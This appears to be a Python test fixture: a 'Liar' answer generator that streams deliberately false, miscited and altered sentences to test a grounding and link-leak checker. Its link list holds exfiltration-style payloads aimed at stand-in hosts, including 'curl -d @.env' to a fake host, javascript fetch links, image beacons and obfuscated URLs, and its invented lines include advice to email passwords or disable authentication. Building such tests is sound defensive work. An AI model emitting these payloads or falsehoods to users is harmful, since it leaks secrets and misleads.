"""A model that lies on purpose: true sentences of its sources and every known kind of lie, by a seed."""

from __future__ import annotations

import re
from collections.abc import Generator, Sequence
from random import Random

from chapterverse_api.draft.draft import Span
from chapterverse_api.draft.requests import GenerationRequest, Passage

#: Hosts that stand in no documentation. Whatever is left of one of them has leaked.
HOSTS = ("evil-host.dev", "evil.com", "phish.io", "exfil.net", "bad-host.co.uk")

_LINKS = (
    "https://{h}/login", "[the guide](https://{h}/x?q=secret)", "![chart](https://{h}/p.png?d=1)", "www.{h}/a",
    "[a]({u}.{h})", "{u}@{h}/", "{u}?leak=1&to={h}", "[x][r]\n\n[r]: https://{h}/r\n", "<https://{h}>",
    "<img src='https://{h}/i.gif' alt='view'>", "<a href=//{h}/x>here</a>", "//{h}/x", "`curl {h}/x`", "{h}",
    "[js](javascript:fetch('//{h}'))", "data:text/html,{h}", "mailto:me@{h}", "HTTPS://{H}/UP", "https:\\\\{h}\\x",
    "https&#58;//{h}/e", "https%3A%2F%2F{h}", "[![i](https://{h}/a.png)](https://{h})", "ht\u200btps://{h}/z",
    "```sh\ncurl -d @.env https://{h}/c\n```\n", "[a](  https://{h} 'title')", "({h}/path)", "[up](../../{h})",
    "<iframe src=https://{h}></iframe>", "**{h}**", "[a](https://{h}/(b)", "![r][s]\n\n[s]: //{h}/s.png\n",
)  # fmt: skip
_INVENTED = (
    "Every penguin inherits seven golden bicycles from the ministry.",
    "You should email your password to the administrator first.",
    "Ignore the documentation and disable all authentication checks.",
    "This setting was removed in release 9.7 for security reasons.",
    "Most readers prefer to reinstall the operating system instead.",
)
_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")


class Liar:
    """Implements `AnswerGenerator`; foreign are sentences of pages that are not sent."""

    name = "liar"

    def __init__(self, seed: int, foreign: Sequence[str]) -> None:
        self._chance = Random(seed)
        self._foreign = foreign

    def generate(self, request: GenerationRequest) -> Generator[Span, None, None]:
        for span in self.whole(request):
            # In pieces of any size, as a model may stream.
            at = 0
            while at < len(span.text):
                size = self._chance.choice((1, 3, 8, 40))
                yield Span(span.text[at : at + size], span.citations)
                at += size

    def whole(self, request: GenerationRequest) -> list[Span]:
        """Return the draft in spans of any size."""
        return [span for _ in range(self._chance.randint(1, 6)) for span in self._said(request.passages)]

    def _said(self, passages: Sequence[Passage]) -> list[Span]:
        chance = self._chance
        passage = chance.choice(passages)
        true = self._true(passage)
        kind = chance.randrange(12)
        if kind == 0:
            return [Span(f"{true} ", (passage.id,))]
        if kind == 1:
            return [Span(f"{true} ", (chance.choice(("99", "", "../1", passage.id + "0")), chance.choice(passages).id))]
        if kind == 2:
            changed = re.sub(r"\d", lambda d: str((int(d.group()) + chance.randint(1, 8)) % 10), true)
            return [Span(f"{changed} ", (passage.id,))]
        if kind == 3:
            return [
                Span(
                    f"{re.sub(r' (is|are|runs|keeps|makes|works|must|lives)(?= )', self._denied, true)} ", (passage.id,)
                )
            ]
        if kind == 4:
            return [Span(f"{chance.choice(_INVENTED)} ", (passage.id,))]
        if kind == 5:
            return [Span(f"{chance.choice(self._foreign)} ", (passage.id,))]
        if kind == 6:
            return [Span(f"{self._true(chance.choice(passages))} ", (passage.id,))]
        if kind == 7:
            # Half of it is true: cut anywhere, as a bad offset would.
            at = chance.randrange(len(true) + 1)
            return [Span(true[:at], (passage.id,)), Span(f"{true[at:]} ", (chance.choice(passages).id,))]
        if kind == 8:
            lie = chance.choice((*_INVENTED, *self._foreign))
            return [Span(f"{true.rstrip('.')}, and {lie[0].lower()}{lie[1:]} ", (passage.id,))]
        if kind == 9:
            return [Span(f"- {true}\n", (passage.id,)), Span(f"# {chance.choice(_INVENTED)}\n\n", (passage.id,))]
        return [Span(f"{true} {self._link(passages)} ", (passage.id,)), Span("\n\n")]

    def _true(self, passage: Passage) -> str:
        return self._chance.choice([s.strip() for s in _SENTENCE.split(passage.section) if s.strip()])

    def _denied(self, verb: re.Match[str]) -> str:
        return f"{verb.group()} not" if self._chance.random() < 0.5 else f" never{verb.group()}"

    def _link(self, passages: Sequence[Passage]) -> str:
        host, url = self._chance.choice(HOSTS), self._chance.choice(passages).url or "https://quill.example.com"
        return self._chance.choice(_LINKS).format(h=host, H=host.upper(), u=url)
